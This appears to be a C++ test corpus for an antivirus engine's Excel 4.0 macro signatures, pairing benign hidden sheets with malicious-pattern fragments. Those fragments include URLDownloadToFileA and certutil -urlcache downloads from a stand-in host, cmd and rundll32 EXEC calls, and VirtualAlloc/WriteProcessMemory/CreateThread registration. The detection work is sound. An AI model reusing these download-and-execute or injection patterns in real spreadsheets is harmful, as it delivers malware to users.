// Hidden-sheet corpus: parsed formulas of Excel 4.0 macro sheets and hidden worksheets.
// Positive sheets are fragments: the calls and strings that matter, with reserved example
// addresses and no code to run.
#include "tests/signature_set/corpus.h"
#include "tests/signature_set/formula_tokens.h"

namespace qv::test::sigset {
namespace {

constexpr char kDownloader[] = "Macro.Excel4.Downloader";
constexpr char kShellExec[] = "Macro.Excel4.ShellExec";
constexpr char kInjector[] = "Macro.Excel4.Injector";

// =CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,url,file,0,0)
Rgce CallUrlDownload(TokenClass cls, bool wide) {
  Rgce f;
  f.Str("urlmon", wide).Str("URLDownloadToFileA", wide).Str("JJCCJJ", wide).Int(0);
  f.Str("http://example.invalid/a", wide).Str("c:\\Users\\Public\\a.txt", wide).Int(0).Int(0);
  return f.FuncVar(kCall, 8, cls);
}

// =REGISTER(module, procedure, type, alias, , 1, 9)
Rgce Register(const char* module, const char* procedure, const char* alias, bool wide = false) {
  Rgce f;
  f.Str(module, wide).Str(procedure, wide).Str("JJJJJ", wide).Str(alias, wide).Missing().Int(1).Int(9);
  return f.FuncVar(kRegister, 7);
}

Rgce Halt() { return Rgce().Func(kHalt); }

}  // namespace

std::vector<CorpusCase> PositiveSheets() {
  return {
      {"Downloader: CALL of URLDownloadToFileA, value class, 8-bit strings",
       SheetBuffer({CallUrlDownload(TokenClass::Value, false), Halt()}), {kDownloader}},
      {"Downloader: the same with 16-bit strings and the reference class",
       SheetBuffer({CallUrlDownload(TokenClass::Reference, true), Halt()}), {kDownloader}},
      {"Downloader: REGISTER of URLDownloadToFileA, then a call through its alias",
       SheetBuffer({Register("urlmon", "URLDownloadToFileA", "fetch"), Rgce().Str("fetch").Int(0).FuncVar(kCall, 2, TokenClass::Array), Halt()}),
       {kDownloader}},
      {"Downloader: EXEC of a command line with -urlcache",
       SheetBuffer({Rgce().Str("certutil -urlcache -f http://example.invalid/b b.txt").FuncVar(kExec, 1), Halt()}),
       {kDownloader}},
      {"ShellExec: EXEC of cmd /c",
       SheetBuffer({Rgce().Str("cmd /c echo x").Int(0).FuncVar(kExec, 2), Halt()}), {kShellExec}},
      {"ShellExec: EXEC of a command line built by concatenation, 16-bit strings",
       SheetBuffer({Rgce().Str("rundll32 ", true).Ref(2, 1).Concat().FuncVar(kExec, 1, TokenClass::Reference), Halt()}),
       {kShellExec}},
      {"ShellExec: CALL of ShellExecuteA in shell32",
       SheetBuffer({Rgce().Str("shell32").Str("ShellExecuteA").Str("JJCCCCJ").Int(0).Str("open").Str("x.txt").Missing().Missing().Int(0).FuncVar(kCall, 9), Halt()}),
       {kShellExec}},
      {"ShellExec: REGISTER of WinExec in kernel32",
       SheetBuffer({Register("Kernel32", "WinExec", "run", true), Halt()}), {kShellExec}},
      {"Injector: REGISTER of VirtualAlloc, RtlCopyMemory and CreateThread",
       SheetBuffer({Register("Kernel32", "VirtualAlloc", "va"), Register("Kernel32", "RtlCopyMemory", "cm"),
                    Register("Kernel32", "CreateThread", "ct"), Halt()}),
       {kInjector}},
      {"Injector: VirtualAlloc and WriteProcessMemory with 16-bit strings",
       SheetBuffer({Register("kernel32", "VirtualAlloc", "va", true), Register("kernel32", "WriteProcessMemory", "wm", true), Halt()}),
       {kInjector}},
      {"precedence: a sheet that downloads and runs is named Downloader only",
       SheetBuffer({CallUrlDownload(TokenClass::Value, false), Rgce().Str("cmd /c a.txt").FuncVar(kExec, 1), Halt()}),
       {kDownloader}},
      {"the test string in a hidden macro sheet",
       SheetBuffer({Rgce().Str("QUORVANE-MACRO-TEST-SIGNATURE"), Rgce().Func(kReturn)}), {"Macro.Test.Signature"}},
      {"the test string in 16-bit characters",
       SheetBuffer({Rgce().Str("QUORVANE-MACRO-TEST-SIGNATURE", true)}), {"Macro.Test.Signature"}},
  };
}

std::vector<CorpusCase> BenignSheets() {
  return {
      {"hidden sheet of sums", SheetBuffer({Rgce().Area(1, 40, 2, 2).FuncVar(kSum, 1), Rgce().Area(1, 40, 3, 3).FuncVar(kSum, 1),
                                            Rgce().Ref(41, 2).Ref(41, 3).Add()})},
      {"hidden lookup table", SheetBuffer({Rgce().Ref(0, 0).Area(0, 200, 4, 6).Int(3).Int(0).FuncVar(kVlookup, 4),
                                           Rgce().Ref(1, 0).Str("").FuncVar(kIf, 3, TokenClass::Value)})},
      {"hidden sheet of labels built with CONCATENATE",
       SheetBuffer({Rgce().Str("Total ").Ref(3, 1).Str(" EUR").FuncVar(kConcatenate, 3),
                    Rgce().Str("Quarter ", true).Ref(0, 2).Concat()})},
      // DLL names as text of an IT inventory, no call that reaches outside Excel.
      {"hidden inventory that lists system DLLs",
       SheetBuffer({Rgce().Str("kernel32.dll").Str(" 6.1.7601").Concat(), Rgce().Str("shell32.dll"),
                    Rgce().Str("urlmon.dll version check").Ref(4, 4).Concat(), Rgce().Str("VirtualAlloc calls per second")})},
      // Excel 4.0 macros that call Windows, but nothing a rule looks for.
      {"macro sheet that beeps through user32",
       SheetBuffer({Rgce().Str("user32").Str("MessageBeep").Str("JJ").FuncVar(kRegister, 3), Rgce().Str("user32").Str("MessageBeep").Str("JJ").Int(0).FuncVar(kCall, 4), Halt()})},
      {"macro sheet that opens Notepad", SheetBuffer({Rgce().Str("notepad.exe readme.txt").Int(1).FuncVar(kExec, 2), Halt()})},
      {"macro sheet that only computes", SheetBuffer({Rgce().Func(kNow), Rgce().Num(149.150).Num(110.0).Add(), Halt()})},
  };
}

}  // namespace qv::test::sigset
